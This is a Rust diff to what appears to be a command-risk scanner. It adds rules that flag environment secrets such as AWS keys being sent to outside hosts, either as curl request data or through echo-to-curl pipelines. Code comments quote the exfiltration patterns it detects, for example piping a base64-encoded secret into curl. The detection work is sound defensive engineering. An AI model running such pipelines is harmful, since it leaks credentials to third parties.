@@ -175,6 +175,25 @@ pub(super) fn send(scan: &mut Scan<'_>, host: &str, how: &str) {
     send_to(scan, host, Name::AnyOf(host_names(host)), how);
 }
 
+/// A secret of the environment (`$AWS_SECRET_ACCESS_KEY`) sent to `host` as data: severe, so
+/// it asks before reading; the person naming the host lifts it (a token asked of an auth
+/// server: `-d client_secret=$CLIENT_SECRET`).
+pub(super) fn secret_leaves(scan: &mut Scan<'_>, name: &str, host: &str) {
+    if is_local(host) {
+        return;
+    }
+    scan.add(
+        Risk::new(
+            RuleId::EgressSend,
+            Harm::Severe,
+            true,
+            format!("send ${name}, a secret of the environment, to {host}"),
+        )
+        .way_out()
+        .wish(Wish::new(Act::Send).naming(Name::AnyOf(host_names(host)))),
+    );
+}
+
 /// A send to `host`, lifted by naming one of `names`: a drop box is severe.
 fn send_to(scan: &mut Scan<'_>, host: &str, names: Name, how: &str) {
     if is_local(host) {
@@ -840,6 +859,11 @@ fn curl(cmd: &Command, scan: &mut Scan<'_>) {
                 .any(|d| value.contains(&format!("$({d}")) || value.contains(&format!("`{d}")))
             {
                 env_leaves(scan, &format!("send the environment to {host}"));
+            }
+            // A secret from the environment as the request's data (`-d "k=$AWS_SECRET_ACCESS_KEY"`),
+            // not as the credential a header signs it with: it leaves.
+            if let Some(name) = super::words::expanded_secret(value) {
+                secret_leaves(scan, name, &host);
             }
         }
         if !data.is_empty() || stdin_data {
@@ -1715,6 +1739,20 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
         // the pipe (`grep . .env`, `jq . creds.json`, `sort .env`, `gzip -c .env`).
         let reads_secret = catalogue::is(program, Class::Prints)
             && cmd.args().iter().any(|a| secret_file(a, scan).is_some());
+        // `echo $AWS_SECRET_ACCESS_KEY | base64 | curl -d @- HOST`: the secret flows down.
+        if matches!(program, "echo" | "printf")
+            && let Some(name) = cmd
+                .args()
+                .iter()
+                .find_map(|a| super::words::expanded_secret(a))
+            && let Some(host) = later
+                .iter()
+                .filter(|c| is_way_out(c))
+                .find_map(|c| c.args().iter().find_map(|a| url_host(a)))
+        {
+            let name = name.to_string();
+            secret_leaves(scan, &name, &host);
+        }
         if dumps_env || reads_secret {
             let leaves = later.iter().any(|c| is_way_out(c) || is_service_cli(c));
             // `gh issue create --body "$(cat .env)"`: a hosted service's CLI sends what its
